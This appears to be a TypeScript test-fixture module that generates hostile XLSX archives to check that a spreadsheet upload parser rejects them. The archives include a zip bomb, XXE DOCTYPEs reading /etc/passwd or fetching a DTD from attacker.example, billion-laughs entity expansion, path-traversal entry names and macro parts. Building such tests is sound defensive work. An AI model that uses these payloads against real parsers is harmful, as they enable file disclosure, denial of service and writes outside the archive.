import { deflateRawSync } from 'node:zlib';
import type { HostileKind, Random } from './hostile-kind.ts';
import { cellsOf, goodLines, headers } from './lines.ts';
import { sheetXml, stringsXml, textRows, workbookParts } from './workbook.ts';
import type { ZipPart } from './zip.ts';
import { zipOf } from './zip.ts';

const rows = textRows([headers, ...goodLines(5).map(cellsOf)]);
const goodParts = () =>
  workbookParts({ sheets: [{ name: 'Returns', xml: sheetXml(rows) }], strings: stringsXml(['x']) });

const partNames = [
  '[Content_Types].xml',
  '_rels/.rels',
  'xl/workbook.xml',
  'xl/_rels/workbook.xml.rels',
  'xl/styles.xml',
  'xl/sharedStrings.xml',
  'xl/worksheets/sheet1.xml',
] as const;

const changed = (name: string, change: (part: ZipPart) => ZipPart) =>
  goodParts().map((part) => (part.name === name ? change(part) : part));

/** Sixty-four megabytes that fit in sixty-four kilobytes. */
const bombPacked = deflateRawSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
const bombSize = 64 * 1024 * 1024;

const withContent = (name: string, change: (text: string) => string) =>
  zipOf(changed(name, (part) => ({ ...part, content: change(String(part.content)) })));

const afterHead = (declaration: string) => (text: string) => text.replace(/(<\?xml[^>]*\?>\s*)/, `$1${declaration}`);

const doctypes = (random: Random) =>
  random.oneOf([
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
  ]);

/** Archives that lie, swell, hide something, or reach outside. */
export const hostileArchives: readonly HostileKind[] = [
  {
    name: 'a bomb that says how large it is',
    make: (random) =>
      zipOf(changed(random.oneOf(partNames), (part) => ({ ...part, packed: bombPacked, size: bombSize }))),
    codes: ['FileTooLarge'],
  },
  {
    name: 'a bomb that says it is small',
    make: (random) =>
      zipOf(
        changed(random.oneOf(partNames), (part) => ({ ...part, packed: bombPacked, size: 1 + random.below(100_000) })),
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'bombs in parts that nobody needs',
    make: (random) =>
      zipOf([
        ...goodParts(),
        ...Array.from({ length: 2 + random.below(5) }, (_, index) => ({
          name: `xl/media/image${index}.png`,
          content: '',
          packed: bombPacked,
          size: bombSize / 2,
        })),
      ]),
    codes: ['FileTooLarge'],
  },
  {
    name: 'a size that is too large by a little',
    make: (random) =>
      zipOf(
        changed(random.oneOf(partNames), (part) => ({
          ...part,
          size: part.content.length + 1000 + random.below(1000),
        })),
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'a sum that is wrong',
    make: (random) => zipOf(changed(random.oneOf(partNames), (part) => ({ ...part, sum: random.below(2 ** 31) }))),
    codes: ['FileDamaged'],
  },
  {
    name: 'packed bytes beyond the end',
    make: (random) =>
      zipOf(
        changed(random.oneOf(partNames), (part) => ({ ...part, packedSize: 10_000_000 + random.below(1_000_000_000) })),
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'a way of packing that nobody knows',
    make: (random) =>
      zipOf(changed(random.oneOf(partNames), (part) => ({ ...part, method: random.oneOf([1, 6, 9, 12, 14, 93, 99]) }))),
    codes: ['FileDamaged'],
  },
  {
    name: 'thousands of parts',
    make: (random) =>
      zipOf([
        ...goodParts(),
        ...Array.from({ length: 400 + random.below(2000) }, (_, index) => ({ name: `xl/x${index}.xml`, content: '' })),
      ]),
    codes: ['FileTooLarge'],
  },
  {
    name: 'more parts than there are',
    make: (random) => zipOf(goodParts(), { entries: 8 + random.below(60_000) }),
    codes: ['FileDamaged', 'FileTooLarge'],
  },
  {
    name: 'one part twice',
    make: (random) => {
      const name = random.oneOf(partNames);
      return zipOf([...goodParts(), { name: random.oneOf([name, name.toUpperCase()]), content: '<a/>' }]);
    },
    codes: ['FileDamaged'],
  },
  {
    name: 'a name that leads out of the archive',
    make: (random) =>
      zipOf([
        ...goodParts(),
        {
          name: random.oneOf(['../../etc/cron.d/x', '/etc/passwd', 'xl/../../x', 'C:/x', String.raw`xl\..\..\x`]),
          content: 'x',
        },
      ]),
    codes: ['FileDamaged'],
  },
  {
    name: 'a document type',
    make: (random) => withContent(random.oneOf(partNames), afterHead(doctypes(random))),
    codes: ['FileDamaged'],
  },
  {
    name: 'an entity that nobody declared',
    make: (random) =>
      withContent(random.oneOf(partNames), (text) => text.replace(/<\/\w+>\s*$/, (end) => `&xxe;${end}`)),
    codes: ['FileDamaged'],
  },
  {
    name: 'a part in UTF-16, with a document type',
    make: (random) =>
      zipOf(
        changed(random.oneOf(partNames), (part) => ({
          ...part,
          content: Buffer.from(`\uFEFF${afterHead(doctypes(random))(String(part.content))}`, 'utf16le'),
        })),
      ),
    codes: ['FileDamaged'],
  },
  {
    name: 'macros',
    make: (random) =>
      random.oneOf([
        zipOf([...goodParts(), { name: 'xl/vbaProject.bin', content: random.bytes(500) }]),
        zipOf([...goodParts(), { name: 'XL/VBAPROJECT.BIN', content: random.bytes(500) }]),
        zipOf([...goodParts(), { name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
        withContent('[Content_Types].xml', (text) =>
          text.replace(
            '</Types>',
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
          ),
        ),
      ]),
    codes: ['FileWithMacros'],
  },
  {
    name: 'a part under a password',
    make: (random) => zipOf(changed(random.oneOf(partNames), (part) => ({ ...part, flags: 1 }))),
    codes: ['FilePasswordProtected'],
  },
  {
    name: 'an archive of something else',
    make: (random) =>
      zipOf(
        random.oneOf<ZipPart[]>([
          [
            { name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
            { name: 'content.xml', content: '<a/>' },
          ],
          [
            { name: '[Content_Types].xml', content: '<Types/>' },
            {
              name: '_rels/.rels',
              content:
                '<Relationships><Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
            },
            { name: 'word/document.xml', content: '<w:document xmlns:w="w"/>' },
          ],
          [{ name: 'return.csv', content: headers.join(';') }],
          [...goodParts(), { name: 'xl/workbook.bin', content: random.bytes(100) }],
          [],
        ]),
      ),
    codes: ['FileWrongType', 'FileIsOds', 'FileIsXlsb'],
  },
  {
    name: 'no sheet where one should be',
    make: () => zipOf(goodParts().filter(({ name }) => name !== 'xl/worksheets/sheet1.xml')),
    codes: ['FileDamaged'],
  },
];
